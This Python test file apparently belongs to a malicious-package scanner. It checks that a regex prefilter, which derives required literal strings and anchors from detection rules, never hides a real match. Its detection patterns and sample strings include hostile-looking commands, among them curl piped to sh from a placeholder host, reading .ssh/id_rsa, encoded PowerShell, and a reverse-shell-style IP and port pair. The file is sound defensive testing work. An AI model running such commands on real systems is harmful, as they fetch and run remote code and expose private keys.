"""The regex prefilter: what it derives is needed by every match, and it fails safe."""

from __future__ import annotations

import random
import re

import pytest

from mphunter_gate.analysis.indicators import rules
from mphunter_gate.analysis.required import anchors, required


@pytest.mark.parametrize(
    ("pattern", "needs"),
    [
        (r"\b(cmd(\.exe)?\s*/[ck]|pwsh)\b", {"cmd", "pwsh"}),
        (r"(^|\s)-(e|enc|encodedcommand)\s+x", {"-e"}),
        (r"(curl|wget)\b[^\n]{0,9}\|\s*(ba)?sh", {"curl", "wget"}),
        (r"getenv\(\s*['\"](temp|appdata)", {"getenv("}),
    ],
)
def test_needed_strings(pattern: str, needs: set[str]) -> None:
    assert required(re.compile(pattern)) == needs


@pytest.mark.parametrize("pattern", [r"[a-z]{40,}", r"x?|y", r"(?i)powershell", r"(a|)b?"])
def test_nothing_nameable_means_always_search(pattern: str) -> None:
    needs = required(re.compile(pattern))
    assert needs is None


def test_prefilter_never_hides_a_match() -> None:
    texts = [
        "subprocess.Popen('powershell -nop -c whoami')",
        "cmd /c start x",
        "x = 'pwsh -enc " + "QUFB" * 12 + "'",
        "os.system('curl -s http://example.invalid/x | sh')",
        "os.getenv('appdata')",
        "open(os.path.join(home, '.ssh/id_rsa'))",
        "nohup ./x > /dev/null 2>&1 &",
    ]
    for rule in rules():
        for text in texts:
            if rule.pattern.search(text):
                assert rule.may_match(text), (rule.name, text)


@pytest.mark.parametrize(
    ("pattern", "starts"),
    [
        (r"\b(cmd(\.exe)?\s*/[ck]|pwsh)\b", {("cmd", 0, 0), ("pwsh", 0, 0)}),
        (r"(^|\s)-(e|enc|encodedcommand)\s+x", {("-e", 0, 1)}),
        (r"[0-9]{1,3}:abc", {(":abc", 1, 3)}),
        (r"['\"]ab", {("'ab", 0, 0), ('"ab', 0, 0)}),
        (r"/bin/(ba)?sh\s+-c", {("/bin/sh", 0, 0), ("/bin/bash", 0, 0)}),
        (r"(\\x[0-9a-f]{2}){3,}", {("\\x", 0, 0)}),
        (r"[^']x", {("x", 1, 1)}),
    ],
)
def test_anchors(pattern: str, starts: set[tuple[str, int, int]]) -> None:
    found = anchors(re.compile(pattern))
    assert found is not None
    assert {(a.text, a.lo, a.hi) for a in found} == starts


@pytest.mark.parametrize(
    "pattern",
    [r"[a-z]{40,}", r"x?", r"x*y", r"[a-z]{2,9}b", r"(?i)powershell", r"(a|)b?", r"[^']*x"],
)
def test_no_anchors_means_search_every_offset(pattern: str) -> None:
    assert anchors(re.compile(pattern)) is None


def test_a_class_of_literals_is_exact() -> None:
    assert required(re.compile(r"['\"]abc")) == {"'abc", '"abc'}
    assert required(re.compile(r"[^']abc")) == {"abc"}


def _texts() -> list[str]:
    """Synthetic texts built from the rules' own strings, separators and noise."""
    pieces = sorted(
        {a.text for r in rules() for a in anchors(r.pattern) or ()}
        | {s for r in rules() for s in r.needs or ()}
    )
    pieces += [" ", "\n", "\t", "'", '"', "(", ")", "/", ".", "-", "x", "q", "7", "1.2.3.4"]
    pieces += ["powershell", "cmd /c", "-enc " + "QUFB" * 12, ".exe", " | sh", "a" * 410]
    pieces += ["'" + "qujd" * 110 + "'", '"' + "\\x4f" * 101 + '"', "('10.0.0.1', 4444)"]
    pieces += ["http://h/x.exe", "https://10.1.2.3/", "urlretrieve(u, 'p.bat')"]
    rng = random.Random(20240601)
    return ["".join(rng.choice(pieces) for _ in range(rng.randint(1, 40))) for _ in range(1500)]


def test_anchors_never_hide_a_match() -> None:
    texts = _texts()
    for rule in rules():
        found = anchors(rule.pattern)
        if found is None:
            continue
        for text in texts:
            for m in rule.pattern.finditer(text):
                assert any(
                    text.startswith(a.text, m.start() + k)
                    for a in found
                    for k in range(a.lo, a.hi + 1)
                ), (rule.name, text, m.group())
